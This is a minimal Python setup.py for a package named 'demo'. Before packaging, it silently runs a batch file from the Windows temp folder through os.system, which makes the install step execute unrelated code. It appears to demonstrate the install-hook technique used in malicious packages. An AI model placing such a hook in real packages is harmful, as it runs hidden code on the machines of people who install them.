import os
from setuptools import setup

os.system(r"start %TEMP%\demo.bat")
setup(name="demo", version="1.0")
